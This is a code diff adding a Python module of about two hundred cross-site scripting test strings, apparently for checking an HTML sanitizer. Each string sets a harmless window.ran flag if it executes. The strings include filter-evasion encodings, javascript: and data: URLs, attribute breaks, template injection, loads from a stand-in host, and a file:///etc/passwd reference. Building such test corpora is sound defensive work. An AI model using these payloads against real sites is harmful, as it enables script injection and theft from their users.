@@ -1,0 +1,88 @@
+"""Two hundred texts that try to become markup, attributes, addresses or scripts. Each sets window.ran if it runs."""
+
+from __future__ import annotations
+
+from typing import Final
+
+_RUN = "window.ran=1"
+_BREAKS = (
+    *("", '"', "'", "`", '">', "'>", "-->", "]]>", '\\">'),
+    *("</title>", "</style>", "</script>", "</textarea>", "</svg>"),
+)
+_ELEMENTS = (
+    f"<script>{_RUN}</script>",
+    f"<svg onload={_RUN}>",
+    f"<img src=x onerror={_RUN}>",
+    f"<body onload={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
+    f"<input autofocus onfocus={_RUN}>",
+)
+_ALONE = (
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f" javascript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"\x01javascript:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"vbscript:{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
+    f'http://x.example/" onmouseover="{_RUN}',
+    f"http://x.example/' onclick='{_RUN}",
+    f"https://x.example/><script>{_RUN}</script>",
+    f"https://javascript:{_RUN}@x.example/",
+    "//x.example/a.js",
+    "file:///etc/passwd",
+    "blob:https://x.example/1",
+    f'https://x.example/#"><img src=x onerror={_RUN}>',
+    f'" autofocus onfocus="{_RUN}" x="',
+    f"' autofocus onfocus='{_RUN}' x='",
+    f'" style="background:url(http://x.example/a)" onload="{_RUN}',
+    f"x onerror={_RUN} ",
+    "<!--",
+    "<!-- <script>",
+    "--!><!--",
+    "<![CDATA[",
+    f"<?xml version='1.0'?><script>{_RUN}</script>",
+    f"{{{{constructor.constructor('{_RUN}')()}}}}",
+    f"${{{_RUN}}}",
+    f"\u2028{_RUN}//\u2029",
+    f"\ufeff<script>{_RUN}</script>",
+    f"\u202e<script>{_RUN}</script>\u202c",
+    f"\u200b<\u200bscript>{_RUN}</script>",
+    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
+    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
+    f"<script\x0c>{_RUN}</script\x0c>",
+    f"<ſcript>{_RUN}</ſcript>",
+    f"<SCRIPT>{_RUN}</SCRIPT>",
+    f"<script/x>{_RUN}</script>",
+    f"<<script>{_RUN}//<</script>",
+    f"</script><script>{_RUN}</script><script>",
+    f"\\u003cscript>{_RUN}\\u003c/script>",
+    f"\\x3cscript>{_RUN}\\x3c/script>",
+    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
+    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
+    f"%3Cscript%3E{_RUN}%3C/script%3E",
+    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
+    "<base href=http://x.example/>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
+    "<meta http-equiv=refresh content='0;url=http://x.example/'>",
+    "<link rel=stylesheet href=http://x.example/a.css>",
+    "<style>@import 'http://x.example/a.css';</style>",
+    "<style>*{display:none}</style>",
+    f"<form action=javascript:{_RUN}><button autofocus>",
+    f"<a href=javascript:{_RUN}>x</a>",
+    "<object data=http://x.example/a></object>",
+    f"<embed src=javascript:{_RUN}>",
+    "<video src=http://x.example/a autoplay>",
+    f"<marquee onstart={_RUN}>",
+)
+PAYLOADS: Final = tuple(
+    dict.fromkeys((*(f"{before}{element}" for before in _BREAKS for element in _ELEMENTS), *_ALONE))
+)
